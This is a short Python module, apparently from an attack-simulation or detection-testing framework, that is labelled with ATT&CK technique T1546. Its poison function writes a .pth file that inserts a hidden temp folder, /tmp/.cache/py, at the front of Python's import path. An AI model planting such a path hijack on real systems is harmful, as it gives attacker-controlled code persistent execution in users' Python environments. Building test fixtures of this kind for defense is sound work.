# SPDX-License-Identifier: Apache-2.0
"""A .pth file that puts another folder first."""

ATTACK = "T1546"
LANGUAGE = "python"


def poison(layer):
    layer.beside("aaa.pth", "import sys; sys.path.insert(0, '/tmp/.cache/py')\n")
